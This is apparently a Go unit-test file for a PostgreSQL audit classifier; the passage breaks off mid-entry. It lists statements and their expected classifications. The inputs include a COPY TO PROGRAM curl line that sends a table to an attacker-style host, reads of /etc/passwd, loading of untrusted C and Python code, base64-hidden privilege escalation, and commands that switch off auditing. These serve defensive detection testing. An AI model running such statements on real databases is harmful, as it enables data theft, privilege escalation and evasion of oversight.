package pgsql

import (
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/vigildb/vigil/event"
)

// tc is one classification expectation. Zero-valued fields are not checked,
// except the booleans and inj, which are always compared exactly.
type tc struct {
	q    string
	op   string
	typ  string   // "" unchecked, "-" must be empty
	objs []string // nil unchecked, []string{} must be empty
	cat  string
	ops  []string // nil: exactly [op]
	rout []string // must all be present

	inj                              []string // exact (nil = none)
	perr, stack                      bool
	nowhere, dyn, untrusted, replace bool
	lang, lib                        string
	copy                             event.Copy
	role                             *event.Role
	grant                            *event.Grant
	set                              *event.Setting
	note                             string
}

func none() []string { return []string{} }

// cases: statements from the pgaudit captures in
// ../shared/samples/postgresql/*.log, plus invented ones: DML/DDL variety,
// security-relevant statements, evasive spellings (E*), statements the
// parser rejects (P*) and injection shapes (I*).
var cases = []tc{
	// ---- captured statements (samples) ----
	{q: "CREATE ROLE alice LOGIN PASSWORD 'AlicePass123!';", op: "CREATE ROLE", typ: "ROLE", objs: []string{"alice"}, cat: "dcl",
		role: &event.Role{Names: []string{"alice"}, Login: true, Attributes: []string{"LOGIN"}, Password: true}},
	{q: "CREATE ROLE auditor NOLOGIN;", op: "CREATE ROLE", typ: "ROLE", objs: []string{"auditor"}, cat: "dcl",
		role: &event.Role{Names: []string{"auditor"}}},
	{q: "CREATE ROLE carol LOGIN PASSWORD 'CarolSecret!';", op: "CREATE ROLE", cat: "dcl",
		role: &event.Role{Names: []string{"carol"}, Login: true, Attributes: []string{"LOGIN"}, Password: true}},
	{q: "CREATE ROLE evil SUPERUSER;", op: "CREATE ROLE", cat: "dcl",
		role: &event.Role{Names: []string{"evil"}, Attributes: []string{"SUPERUSER"}}},
	{q: "CREATE USER bob WITH PASSWORD 'secret';", op: "CREATE ROLE", typ: "ROLE", objs: []string{"bob"}, cat: "dcl",
		role: &event.Role{Names: []string{"bob"}, Login: true, Attributes: []string{"LOGIN"}, Password: true}},
	{q: "ALTER ROLE alice PASSWORD 'NewAlicePass456!';", op: "ALTER ROLE", typ: "ROLE", cat: "dcl",
		role: &event.Role{Names: []string{"alice"}, Password: true}},
	{q: "ALTER ROLE carol WITH SUPERUSER;", op: "ALTER ROLE", cat: "dcl",
		role: &event.Role{Names: []string{"carol"}, Attributes: []string{"SUPERUSER"}}},
	{q: "ALTER SYSTEM RESET log_error_verbosity;", op: "ALTER SYSTEM", typ: "-", cat: "admin",
		set: &event.Setting{Scope: "system", Name: "log_error_verbosity", Reset: true}},
	{q: "ALTER SYSTEM RESET pgaudit.role;", op: "ALTER SYSTEM", cat: "admin",
		set: &event.Setting{Scope: "system", Name: "pgaudit.role", Reset: true}},
	{q: "ALTER SYSTEM SET log_statement = 'none';", op: "ALTER SYSTEM", cat: "admin",
		set: &event.Setting{Scope: "system", Name: "log_statement", Value: "none"}},
	{q: "ALTER SYSTEM SET pgaudit.log = 'ddl,role,write,function,misc';", op: "ALTER SYSTEM", cat: "admin",
		set: &event.Setting{Scope: "system", Name: "pgaudit.log", Value: "ddl,role,write,function,misc"}},
	{q: "ALTER SYSTEM SET log_min_duration_statement = -1;", op: "ALTER SYSTEM", cat: "admin",
		set: &event.Setting{Scope: "system", Name: "log_min_duration_statement", Value: "-1"}},
	{q: "ALTER SYSTEM SET log_line_prefix = '%m [%p] %q%u@%d/%a ';", op: "ALTER SYSTEM", cat: "admin",
		set: &event.Setting{Scope: "system", Name: "log_line_prefix", Value: "%m [%p] %q%u@%d/%a "}},
	{q: "ALTER SYSTEM SET pgaudit.log_parameter = off;", op: "ALTER SYSTEM", cat: "admin",
		set: &event.Setting{Scope: "system", Name: "pgaudit.log_parameter", Value: "off"}},
	{q: "ALTER SYSTEM SET log_duration = on;", op: "ALTER SYSTEM", cat: "admin",
		set: &event.Setting{Scope: "system", Name: "log_duration", Value: "on"}},
	{q: "ALTER TABLE customers ADD COLUMN email text;", op: "ALTER TABLE", typ: "TABLE", objs: []string{"customers"}, cat: "ddl"},
	{q: "CALL purge_customers();", op: "CALL", typ: "PROCEDURE", objs: []string{"purge_customers"}, cat: "dml", rout: []string{"purge_customers"}},
	{q: "CHECKPOINT;", op: "CHECKPOINT", typ: "-", objs: none(), cat: "admin"},
	{q: "COPY (SELECT name, ssn FROM customers) TO STDOUT WITH CSV;", op: "COPY", typ: "TABLE", objs: []string{"customers"}, cat: "query",
		copy: event.Copy{Direction: "to", Target: "stdout"}},
	{q: "COPY (select 1) TO '/tmp/pgcap/x';", op: "COPY", typ: "-", objs: none(), cat: "query",
		copy: event.Copy{Direction: "to", Target: "file", Path: "/tmp/pgcap/x"}},
	{q: "COPY cmd_out FROM PROGRAM 'id';", op: "COPY", typ: "TABLE", objs: []string{"cmd_out"}, cat: "dml",
		copy: event.Copy{Direction: "from", Target: "program", Path: "id"}},
	{q: "COPY customers TO '/tmp/pgcap/customers_export.csv' WITH CSV;", op: "COPY", objs: []string{"customers"}, cat: "query",
		copy: event.Copy{Direction: "to", Target: "file", Path: "/tmp/pgcap/customers_export.csv"}},
	{q: "COPY orders TO '/tmp/pgcap/orders.csv';", op: "COPY", objs: []string{"orders"}, cat: "query",
		copy: event.Copy{Direction: "to", Target: "file", Path: "/tmp/pgcap/orders.csv"}},
	{q: "CREATE DATABASE appdb;", op: "CREATE DATABASE", typ: "DATABASE", objs: []string{"appdb"}, cat: "ddl"},
	{q: "CREATE EXTENSION pgaudit;", op: "CREATE EXTENSION", typ: "EXTENSION", objs: []string{"pgaudit"}, cat: "ddl"},
	{q: "CREATE FUNCTION add_one(i int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN i + 1; END; $$;",
		op: "CREATE FUNCTION", typ: "FUNCTION", objs: []string{"add_one"}, cat: "ddl", lang: "plpgsql"},
	{q: "CREATE OR REPLACE FUNCTION f_sum() RETURNS numeric LANGUAGE plpgsql AS $$ DECLARE s numeric; BEGIN SELECT sum(amount) INTO s FROM orders; RETURN s; END $$;",
		op: "CREATE FUNCTION", typ: "FUNCTION", objs: []string{"f_sum"}, cat: "ddl", lang: "plpgsql", replace: true},
	{q: "CREATE PROCEDURE purge_customers() LANGUAGE plpgsql AS $$ BEGIN DELETE FROM customers WHERE id > 100; END; $$;",
		op: "CREATE PROCEDURE", typ: "PROCEDURE", objs: []string{"purge_customers"}, cat: "ddl", lang: "plpgsql"},
	{q: "CREATE TABLE cmd_out(line text);", op: "CREATE TABLE", typ: "TABLE", objs: []string{"cmd_out"}, cat: "ddl"},
	{q: "CREATE TABLE orders (id serial PRIMARY KEY, customer_id int, amount numeric);", op: "CREATE TABLE", objs: []string{"orders"}, cat: "ddl"},
	{q: "CREATE TABLE payroll (id int, emp text, salary int);", op: "CREATE TABLE", objs: []string{"payroll"}, cat: "ddl"},
	{q: "CREATE VIEW v_customers AS SELECT id, name FROM customers;", op: "CREATE VIEW", typ: "VIEW", objs: []string{"v_customers", "customers"}, cat: "ddl"},
	{q: "DELETE FROM customers WHERE id=2;", op: "DELETE", typ: "TABLE", objs: []string{"customers"}, cat: "dml"},
	{q: "DO $$ BEGIN EXECUTE 'CREATE TABLE dyn' || '_table (id int)'; END $$;", op: "DO", typ: "-", objs: []string{"dyn_table"}, cat: "dml",
		ops: []string{"DO", "CREATE TABLE"}, dyn: true, lang: "plpgsql"},
	{q: "DROP ROLE bob;", op: "DROP ROLE", typ: "ROLE", objs: []string{"bob"}, cat: "dcl", role: &event.Role{Names: []string{"bob"}}},
	{q: "DROP TABLE customers;", op: "DROP TABLE", typ: "TABLE", objs: []string{"customers"}, cat: "ddl"},
	{q: "DROP TABLE dyn_table;", op: "DROP TABLE", objs: []string{"dyn_table"}, cat: "ddl"},
	{q: "DROP VIEW v_customers;", op: "DROP VIEW", typ: "VIEW", objs: []string{"v_customers"}, cat: "ddl"},
	{q: "EXECUTE q(1);", op: "EXECUTE", typ: "-", cat: "query"},
	{q: "GRANT ALL ON orders TO carol;", op: "GRANT", typ: "TABLE", objs: []string{"orders"}, cat: "dcl",
		grant: &event.Grant{Privileges: []string{"ALL"}, All: true, Grantees: []string{"carol"}, ObjectType: "TABLE"}},
	{q: "GRANT CONNECT ON DATABASE appdb TO alice;", op: "GRANT", typ: "DATABASE", objs: []string{"appdb"}, cat: "dcl",
		grant: &event.Grant{Privileges: []string{"CONNECT"}, Grantees: []string{"alice"}, ObjectType: "DATABASE"}},
	{q: "GRANT INSERT, UPDATE ON payroll TO auditor;", op: "GRANT", cat: "dcl",
		grant: &event.Grant{Privileges: []string{"INSERT", "UPDATE"}, Grantees: []string{"auditor"}, ObjectType: "TABLE"}},
	{q: "GRANT SELECT (salary) ON payroll TO auditor;", op: "GRANT", objs: []string{"payroll"}, cat: "dcl",
		grant: &event.Grant{Privileges: []string{"SELECT"}, Grantees: []string{"auditor"}, ObjectType: "TABLE"}},
	{q: "GRANT pg_read_all_data TO carol;", op: "GRANT", typ: "ROLE", objs: []string{"pg_read_all_data"}, cat: "dcl",
		grant: &event.Grant{Roles: []string{"pg_read_all_data"}, Grantees: []string{"carol"}, ObjectType: "ROLE"}},
	{q: "INSERT INTO customers VALUES (1,'Ann','123-45-6789','ann@example.com'),(2,'Bo','987-65-4321','bo@example.com');",
		op: "INSERT", typ: "TABLE", objs: []string{"customers"}, cat: "dml"},
	{q: "INSERT INTO orders (customer_id, amount) SELECT g, g*1.5 FROM generate_series(1,5) g;", op: "INSERT",
		objs: []string{"orders"}, cat: "dml", rout: []string{"generate_series"}},
	{q: "PREPARE q(int) AS SELECT name FROM customers WHERE id = $1;", op: "PREPARE", objs: []string{"customers"}, cat: "query"},
	{q: "RESET ROLE;", op: "RESET", cat: "admin", set: &event.Setting{Scope: "session", Name: "role", Reset: true}},
	{q: "RESET pgaudit.log;", op: "RESET", cat: "admin", set: &event.Setting{Scope: "session", Name: "pgaudit.log", Reset: true}},
	{q: "REVOKE ALL ON customers FROM bob;", op: "REVOKE", typ: "TABLE", objs: []string{"customers"}, cat: "dcl",
		grant: &event.Grant{Revoke: true, Privileges: []string{"ALL"}, All: true, Grantees: []string{"bob"}, ObjectType: "TABLE"}},
	{q: "REVOKE SELECT ON v_customers FROM alice;", op: "REVOKE", cat: "dcl",
		grant: &event.Grant{Revoke: true, Privileges: []string{"SELECT"}, Grantees: []string{"alice"}, ObjectType: "TABLE"}},
	{q: "SELECT 'this should not be audited';", op: "SELECT", typ: "-", objs: none(), cat: "query"},
	{q: "SELECT * FROM customers;", op: "SELECT", typ: "TABLE", objs: []string{"customers"}, cat: "query"},
	{q: "SELECT * FROM does_not_exist;", op: "SELECT", objs: []string{"does_not_exist"}, cat: "query"},
	{q: "SELECT add_one(41);", op: "SELECT", typ: "-", objs: none(), cat: "query", rout: []string{"add_one"}},
	{q: "SELECT count(*) FROM orders;", op: "SELECT", objs: []string{"orders"}, cat: "query", rout: []string{"count"}},
	{q: "SELECT current_user;", op: "SELECT", typ: "-", objs: none(), cat: "query"},
	{q: "SELECT f_sum();", op: "SELECT", cat: "query", rout: []string{"f_sum"}},
	{q: "SELECT name, setting FROM pg_settings WHERE name LIKE 'pgaudit.%' ORDER BY 1", op: "SELECT",
		objs: []string{"pg_settings"}, cat: "query", inj: []string{"catalog_enum"}},
	{q: "SELECT pg_read_file('/etc/hostname');", op: "SELECT", cat: "query", rout: []string{"pg_read_file"}},
	{q: "SELECT pg_reload_conf();", op: "SELECT", cat: "query", rout: []string{"pg_reload_conf"}},
	{q: "SELECT pg_sleep(0.2);", op: "SELECT", cat: "query", rout: []string{"pg_sleep"}, inj: []string{"time_sleep"}},
	{q: "SELECT version();", op: "SELECT", cat: "query", rout: []string{"version"}},
	{q: "SET ROLE alice;", op: "SET", typ: "-", cat: "admin", set: &event.Setting{Scope: "session", Name: "role", Value: "alice"}},
	{q: "SET pgaudit.log = 'none';", op: "SET", cat: "admin", set: &event.Setting{Scope: "session", Name: "pgaudit.log", Value: "none"}},
	{q: "SET statement_timeout = '300ms';", op: "SET", cat: "admin", set: &event.Setting{Scope: "session", Name: "statement_timeout", Value: "300ms"}},
	{q: "RESET statement_timeout;", op: "RESET", cat: "admin", set: &event.Setting{Scope: "session", Name: "statement_timeout", Reset: true}},
	{q: "SHOW pgaudit.log_rows", op: "SHOW", cat: "query"},
	{q: "TRUNCATE cmd_out;", op: "TRUNCATE TABLE", typ: "TABLE", objs: []string{"cmd_out"}, cat: "dml"},
	{q: "UPDATE customers SET email='ann2@example.com' WHERE id=1;", op: "UPDATE", typ: "TABLE", objs: []string{"customers"}, cat: "dml"},
	{q: "UPDATE orders SET note='x' WHERE id < 3;", op: "UPDATE", objs: []string{"orders"}, cat: "dml"},
	{q: "VACUUM customers;", op: "VACUUM", typ: "TABLE", objs: []string{"customers"}, cat: "admin"},
	{q: "ALTER ROLE alice SET pgaudit.log = 'none';", op: "ALTER ROLE", typ: "ROLE", objs: []string{"alice"}, cat: "dcl",
		role: &event.Role{Names: []string{"alice"}}, set: &event.Setting{Scope: "role", Name: "pgaudit.log", Value: "none"}},
	{q: "ALTER ROLE alice RESET pgaudit.log;", op: "ALTER ROLE", cat: "dcl",
		set: &event.Setting{Scope: "role", Name: "pgaudit.log", Reset: true}},
	{q: "ALTER DATABASE scratch OWNER TO alice;", op: "ALTER DATABASE", typ: "DATABASE", objs: []string{"scratch"}, cat: "ddl"},
	{q: "CREATE DATABASE scratch;", op: "CREATE DATABASE", objs: []string{"scratch"}, cat: "ddl"},
	{q: "DROP DATABASE scratch;", op: "DROP DATABASE", typ: "DATABASE", objs: []string{"scratch"}, cat: "ddl"},
	{q: "CREATE EXTENSION IF NOT EXISTS file_fdw;", op: "CREATE EXTENSION", objs: []string{"file_fdw"}, cat: "ddl"},
	{q: "DROP EXTENSION file_fdw;", op: "DROP EXTENSION", typ: "EXTENSION", objs: []string{"file_fdw"}, cat: "ddl"},
	{q: "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename='alice';", op: "SELECT",
		objs: []string{"pg_stat_activity"}, cat: "query", rout: []string{"pg_terminate_backend"}, inj: []string{"catalog_enum"}},
	{q: "SELECT lo_export(lo_from_bytea(0, 'hello'::bytea), '/tmp/pgcap/lo.bin');", op: "SELECT", cat: "query",
		rout: []string{"lo_export", "lo_from_bytea"}, copy: event.Copy{Direction: "to", Target: "file", Path: "/tmp/pgcap/lo.bin"}},
	{q: "SELECT salary FROM payroll;", op: "SELECT", objs: []string{"payroll"}, cat: "query"},

	// ---- DML / DDL variety ----
	{q: "WITH del AS (DELETE FROM logs RETURNING *) SELECT count(*) FROM del", op: "SELECT", objs: []string{"logs"}, cat: "query",
		ops: []string{"SELECT", "DELETE"}, nowhere: true},
	{q: "DELETE FROM sessions", op: "DELETE", objs: []string{"sessions"}, cat: "dml", nowhere: true},
	{q: "UPDATE users SET admin = true", op: "UPDATE", objs: []string{"users"}, cat: "dml", nowhere: true},
	{q: "UPDATE t SET x = 1 WHERE CURRENT OF c", op: "UPDATE", objs: []string{"t"}, cat: "dml"},
	{q: "INSERT INTO t SELECT * FROM s ON CONFLICT (id) DO UPDATE SET v = excluded.v", op: "INSERT", objs: []string{"t", "s"}, cat: "dml"},
	{q: "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", op: "MERGE", typ: "TABLE", objs: []string{"t", "s"}, cat: "dml"},
	{q: "CREATE TABLE IF NOT EXISTS public.audit_log (id bigserial, at timestamptz DEFAULT now())", op: "CREATE TABLE",
		objs: []string{"public.audit_log"}, cat: "ddl", rout: []string{"now"}},
	{q: "CREATE TEMP TABLE tmp AS SELECT * FROM users", op: "CREATE TABLE AS", typ: "TABLE", objs: []string{"tmp", "users"}, cat: "ddl"},
	{q: "SELECT * INTO backup_users FROM users", op: "SELECT INTO", typ: "TABLE", objs: []string{"backup_users", "users"}, cat: "ddl"},
	{q: "CREATE MATERIALIZED VIEW mv AS SELECT 1", op: "CREATE MATERIALIZED VIEW", typ: "MATERIALIZED VIEW", objs: []string{"mv"}, cat: "ddl"},
	{q: "DROP MATERIALIZED VIEW mv", op: "DROP MATERIALIZED VIEW", typ: "MATERIALIZED VIEW", objs: []string{"mv"}, cat: "ddl"},
	{q: "REFRESH MATERIALIZED VIEW CONCURRENTLY mv", op: "REFRESH MATERIALIZED VIEW", objs: []string{"mv"}, cat: "ddl"},
	{q: "CREATE INDEX CONCURRENTLY idx_users_email ON users (email)", op: "CREATE INDEX", typ: "INDEX", objs: []string{"idx_users_email", "users"}, cat: "ddl"},
	{q: "DROP INDEX idx_users_email", op: "DROP INDEX", typ: "INDEX", objs: []string{"idx_users_email"}, cat: "ddl"},
	{q: "ALTER TABLE users DROP COLUMN ssn", op: "ALTER TABLE", objs: []string{"users"}, cat: "ddl"},
	{q: "ALTER TABLE users RENAME TO customers_old", op: "ALTER TABLE", objs: []string{"users"}, cat: "ddl"},
	{q: "ALTER TABLE users RENAME COLUMN a TO b", op: "ALTER TABLE", objs: []string{"users"}, cat: "ddl"},
	{q: "ALTER TABLE users OWNER TO mallory", op: "ALTER TABLE", objs: []string{"users"}, cat: "ddl"},
	{q: "ALTER FUNCTION f(int) OWNER TO x", op: "ALTER FUNCTION", typ: "FUNCTION", objs: []string{"f"}, cat: "ddl"},
	{q: "ALTER FUNCTION f() SECURITY DEFINER", op: "ALTER FUNCTION", typ: "FUNCTION", objs: []string{"f"}, cat: "ddl"},
	{q: "DROP FUNCTION IF EXISTS f(int), g()", op: "DROP FUNCTION", typ: "FUNCTION", objs: []string{"f", "g"}, cat: "ddl"},
	{q: "DROP PROCEDURE purge_customers()", op: "DROP PROCEDURE", typ: "PROCEDURE", objs: []string{"purge_customers"}, cat: "ddl"},
	{q: "CREATE TRIGGER trg AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION audit()", op: "CREATE TRIGGER", typ: "TRIGGER",
		objs: []string{"trg", "t"}, cat: "ddl", rout: []string{"audit"}},
	{q: "CREATE OR REPLACE TRIGGER trg AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION audit()", op: "CREATE TRIGGER", cat: "ddl", replace: true},
	{q: "DROP TRIGGER trg ON t", op: "DROP TRIGGER", typ: "TRIGGER", objs: []string{"t.trg"}, cat: "ddl"},
	{q: "CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION f()", op: "CREATE EVENT TRIGGER", typ: "EVENT TRIGGER", objs: []string{"et"}, cat: "ddl"},
	{q: "DROP EVENT TRIGGER et", op: "DROP EVENT TRIGGER", typ: "EVENT TRIGGER", objs: []string{"et"}, cat: "ddl"},
	{q: "ALTER EVENT TRIGGER et DISABLE", op: "ALTER EVENT TRIGGER", objs: []string{"et"}, cat: "ddl"},
	{q: "CREATE SCHEMA IF NOT EXISTS app AUTHORIZATION bob", op: "CREATE SCHEMA", typ: "SCHEMA", objs: []string{"app"}, cat: "ddl"},
	{q: "DROP SCHEMA app CASCADE", op: "DROP SCHEMA", typ: "SCHEMA", objs: []string{"app"}, cat: "ddl"},
	{q: "CREATE SEQUENCE s", op: "CREATE SEQUENCE", typ: "SEQUENCE", objs: []string{"s"}, cat: "ddl"},
	{q: "LOCK TABLE t IN ACCESS EXCLUSIVE MODE", op: "LOCK TABLE", objs: []string{"t"}, cat: "dml"},
	{q: "COMMENT ON TABLE t IS 'x'", op: "COMMENT", typ: "TABLE", objs: []string{"t"}, cat: "ddl"},
	{q: "EXPLAIN ANALYZE DELETE FROM t", op: "EXPLAIN", cat: "query", ops: []string{"EXPLAIN", "DELETE"}, nowhere: true, objs: []string{"t"}},
	{q: "EXPLAIN SELECT * FROM t", op: "EXPLAIN", cat: "query", objs: []string{"t"}},
	{q: "BEGIN", op: "BEGIN", cat: "query"},
	{q: "COMMIT", op: "COMMIT", cat: "query"},
	{q: "ROLLBACK", op: "ROLLBACK", cat: "query"},
	{q: "SELECT a.id, a.name, b.total FROM accounts a JOIN balances b ON b.account_id = a.id WHERE a.status = 'active' ORDER BY 1",
		op: "SELECT", typ: "TABLE", objs: []string{"accounts", "balances"}, cat: "query"},
	{q: "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM t WHERE n < 10) SELECT n FROM t", op: "SELECT", objs: none(), cat: "query"},

	// ---- roles, grants, settings ----
	{q: "GRANT USAGE ON SCHEMA app TO PUBLIC", op: "GRANT", typ: "SCHEMA", objs: []string{"app"}, cat: "dcl",
		grant: &event.Grant{Privileges: []string{"USAGE"}, Public: true, Grantees: []string{"public"}, ObjectType: "SCHEMA"}},
	{q: "GRANT SELECT ON ALL TABLES IN SCHEMA public TO reporting WITH GRANT OPTION", op: "GRANT", objs: []string{"public.*"}, cat: "dcl",
		grant: &event.Grant{Privileges: []string{"SELECT"}, WithGrantOption: true, Grantees: []string{"reporting"}, ObjectType: "TABLE"}},
	{q: "REVOKE GRANT OPTION FOR SELECT ON t FROM bob", op: "REVOKE", cat: "dcl",
		grant: &event.Grant{Revoke: true, Privileges: []string{"SELECT"}, WithGrantOption: true, Grantees: []string{"bob"}, ObjectType: "TABLE"}},
	{q: "GRANT EXECUTE ON FUNCTION pg_read_file(text) TO app", op: "GRANT", typ: "FUNCTION", objs: []string{"pg_read_file"}, cat: "dcl",
		grant: &event.Grant{Privileges: []string{"EXECUTE"}, Grantees: []string{"app"}, ObjectType: "FUNCTION"}},
	{q: "GRANT pg_write_server_files, pg_execute_server_program TO mallory WITH ADMIN OPTION", op: "GRANT", cat: "dcl",
		grant: &event.Grant{Roles: []string{"pg_write_server_files", "pg_execute_server_program"}, WithGrantOption: true, Grantees: []string{"mallory"}, ObjectType: "ROLE"}},
	{q: "REVOKE pg_read_all_data FROM carol", op: "REVOKE", cat: "dcl",
		grant: &event.Grant{Revoke: true, Roles: []string{"pg_read_all_data"}, Grantees: []string{"carol"}, ObjectType: "ROLE"}},
	{q: "ALTER DEFAULT PRIVILEGES IN SCHEMA app GRANT SELECT ON TABLES TO reporting", op: "ALTER DEFAULT PRIVILEGES", cat: "dcl",
		grant: &event.Grant{Privileges: []string{"SELECT"}, Grantees: []string{"reporting"}, ObjectType: "TABLE"}},
	{q: "CREATE ROLE admin2 WITH LOGIN SUPERUSER CREATEROLE CREATEDB REPLICATION BYPASSRLS PASSWORD 'x'", op: "CREATE ROLE", cat: "dcl",
		role: &event.Role{Names: []string{"admin2"}, Login: true, Password: true,
			Attributes: []string{"SUPERUSER", "CREATEROLE", "CREATEDB", "REPLICATION", "BYPASSRLS", "LOGIN"}}},
	{q: "CREATE USER svc NOLOGIN", op: "CREATE ROLE", cat: "dcl", role: &event.Role{Names: []string{"svc"}}},
	{q: "CREATE GROUP staff", op: "CREATE ROLE", objs: []string{"staff"}, cat: "dcl", role: &event.Role{Names: []string{"staff"}}},
	{q: "CREATE ROLE r PASSWORD NULL", op: "CREATE ROLE", cat: "dcl", role: &event.Role{Names: []string{"r"}}},
	{q: "CREATE USER u IN ROLE pg_read_server_files", op: "CREATE ROLE", cat: "dcl",
		role:  &event.Role{Names: []string{"u"}, Login: true, Attributes: []string{"LOGIN"}},
		grant: &event.Grant{Roles: []string{"pg_read_server_files"}, Grantees: []string{"u"}, ObjectType: "ROLE"}},
	{q: "ALTER USER bob WITH NOSUPERUSER", op: "ALTER ROLE", cat: "dcl", role: &event.Role{Names: []string{"bob"}}},
	{q: "ALTER USER bob RENAME TO robert", op: "ALTER ROLE", typ: "ROLE", objs: []string{"bob"}, cat: "dcl", role: &event.Role{Names: []string{"bob"}}},
	{q: "DROP USER IF EXISTS bob, carol", op: "DROP ROLE", objs: []string{"bob", "carol"}, cat: "dcl", role: &event.Role{Names: []string{"bob", "carol"}}},
	{q: "ALTER ROLE ALL SET log_statement = 'none'", op: "ALTER ROLE", cat: "dcl",
		set: &event.Setting{Scope: "role", Name: "log_statement", Value: "none"}},
	{q: "ALTER DATABASE appdb SET pgaudit.log = 'none'", op: "ALTER DATABASE", objs: []string{"appdb"}, cat: "ddl",
		set: &event.Setting{Scope: "database", Name: "pgaudit.log", Value: "none"}},
	{q: "SET SESSION AUTHORIZATION mallory", op: "SET", cat: "admin",
		set: &event.Setting{Scope: "session", Name: "session_authorization", Value: "mallory"}},
	{q: "SET LOCAL log_statement = none", op: "SET", cat: "admin", set: &event.Setting{Scope: "session", Name: "log_statement", Value: "none"}},
	{q: `SET search_path TO public, "$user"`, op: "SET", cat: "admin", set: &event.Setting{Scope: "session", Name: "search_path", Value: "public, $user"}},
	{q: "SET TIME ZONE 'UTC'", op: "SET", cat: "admin", set: &event.Setting{Scope: "session", Name: "timezone", Value: "UTC"}},
	{q: "SET log_min_messages TO DEFAULT", op: "SET", cat: "admin", set: &event.Setting{Scope: "session", Name: "log_min_messages", Reset: true}},
	{q: "RESET ALL", op: "RESET", cat: "admin", set: &event.Setting{Scope: "session", Name: "all", Reset: true}},
	{q: "SELECT set_config('log_statement', 'none', false)", op: "SELECT", cat: "query", rout: []string{"set_config"},
		set: &event.Setting{Scope: "session", Name: "log_statement", Value: "none"}},
	{q: "SET my.api_password = 'hunter2'", op: "SET", cat: "admin", set: &event.Setting{Scope: "session", Name: "my.api_password", Value: "***"}},

	// ---- code: libraries, languages, DO blocks, file access ----
	{q: "LOAD '/tmp/evil.so'", op: "LOAD", cat: "admin", lib: "/tmp/evil.so"},
	{q: "CREATE FUNCTION sys_exec(text) RETURNS int AS '/tmp/lib.so', 'sys_exec' LANGUAGE C", op: "CREATE FUNCTION", objs: []string{"sys_exec"},
		cat: "ddl", lang: "c", lib: "/tmp/lib.so", untrusted: true},
	{q: "CREATE FUNCTION f() RETURNS int AS $$ import os; os.system('id') $$ LANGUAGE plpython3u", op: "CREATE FUNCTION", cat: "ddl",
		lang: "plpython3u", untrusted: true},
	{q: "CREATE OR REPLACE FUNCTION f() RETURNS void LANGUAGE plperlu AS $$ system('id') $$", op: "CREATE FUNCTION", cat: "ddl",
		lang: "plperlu", untrusted: true, replace: true},
	{q: "CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$ SELECT 'x' $$", op: "CREATE FUNCTION", cat: "ddl", lang: "sql"},
	{q: "CREATE FUNCTION f(a int) RETURNS int LANGUAGE sql IMMUTABLE RETURN a + 1", op: "CREATE FUNCTION", cat: "ddl", lang: "sql"},
	{q: "CREATE FUNCTION f() RETURNS int LANGUAGE internal AS 'int4pl'", op: "CREATE FUNCTION", cat: "ddl", lang: "internal", untrusted: true},
	// PostgreSQL's grammar turns CREATE LANGUAGE into CREATE EXTENSION.
	{q: "CREATE LANGUAGE plpython3u", op: "CREATE EXTENSION", typ: "EXTENSION", cat: "ddl", lang: "plpython3u", untrusted: true},
	{q: "CREATE TRUSTED LANGUAGE plperl", op: "CREATE EXTENSION", cat: "ddl", lang: "plperl"},
	{q: "CREATE EXTENSION plperlu", op: "CREATE EXTENSION", objs: []string{"plperlu"}, cat: "ddl", lang: "plperlu", untrusted: true},
	{q: "CREATE EXTENSION pg_trgm", op: "CREATE EXTENSION", objs: []string{"pg_trgm"}, cat: "ddl"},
	{q: "DO $$ BEGIN PERFORM pg_sleep(5); END $$", op: "DO", cat: "dml", ops: []string{"DO", "SELECT"}, rout: []string{"pg_sleep"},
		inj: []string{"time_sleep"}, lang: "plpgsql"},
	{q: "DO $$DECLARE c text := convert_from(decode('QUxURVIgUk9MRSBib2IgU1VQRVJVU0VS','base64'),'UTF8'); BEGIN EXECUTE c; END$$",
		op: "DO", cat: "dml", rout: []string{"convert_from", "decode"}, dyn: true, lang: "plpgsql"},
	{q: "DO $$BEGIN EXECUTE convert_from(decode('QUxURVIgUk9MRSBib2IgU1VQRVJVU0VS','base64'),'UTF8'); END$$", op: "DO", cat: "dml",
		ops: []string{"DO", "ALTER ROLE"}, dyn: true, lang: "plpgsql", rout: []string{"convert_from", "decode"},
		role: &event.Role{Names: []string{"bob"}, Attributes: []string{"SUPERUSER"}}, note: "decoded hidden ALTER ROLE"},
	{q: "DO $$BEGIN EXECUTE chr(68)||chr(82)||chr(79)||chr(80)||' TABLE users'; END$$", op: "DO", cat: "dml",
		ops: []string{"DO", "DROP TABLE"}, objs: []string{"users"}, dyn: true, lang: "plpgsql"},
	{q: "DO $$BEGIN EXECUTE 'DROP TABLE users'; END$$", op: "DO", cat: "dml", ops: []string{"DO", "DROP TABLE"}, objs: []string{"users"}, lang: "plpgsql"},
	{q: "DO $$BEGIN EXECUTE format('GRANT %s TO %I', 'pg_read_server_files', 'mallory'); END$$", op: "DO", cat: "dml",
		ops: []string{"DO", "GRANT"}, dyn: true, lang: "plpgsql",
		grant: &event.Grant{Roles: []string{"pg_read_server_files"}, Grantees: []string{"mallory"}, ObjectType: "ROLE"}},
	{q: "DO LANGUAGE plpython3u $$ import os $$", op: "DO", cat: "dml", lang: "plpython3u", untrusted: true},
	{q: "DO 'BEGIN DELETE FROM audit; END'", op: "DO", cat: "dml", ops: []string{"DO", "DELETE"}, objs: []string{"audit"}, nowhere: true, lang: "plpgsql"},
	{q: "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE convert_from(decode('RFJPUCBUQUJMRSB1c2Vycw==', 'base64'), 'UTF8'); END $$",
		op: "CREATE FUNCTION", cat: "ddl", lang: "plpgsql", dyn: true, note: "body not run: no inner ops"},
	{q: "COPY users TO PROGRAM 'curl -T - https://evil.example/upload'", op: "COPY", cat: "query",
		copy: event.Copy{Direction: "to", Target: "program", Path: "curl -T - https://evil.example/upload"}},
	{q: "COPY users FROM '/etc/passwd'", op: "COPY", cat: "dml", copy: event.Copy{Direction: "from", Target: "file", Path: "/etc/passwd"}},
	{q: "COPY t (a, b) FROM STDIN WITH (FORMAT csv)", op: "COPY", cat: "dml", copy: event.Copy{Direction: "from", Target: "stdin"}},
	{q: "SELECT lo_import('/etc/passwd')", op: "SELECT", cat: "query", rout: []string{"lo_import"},
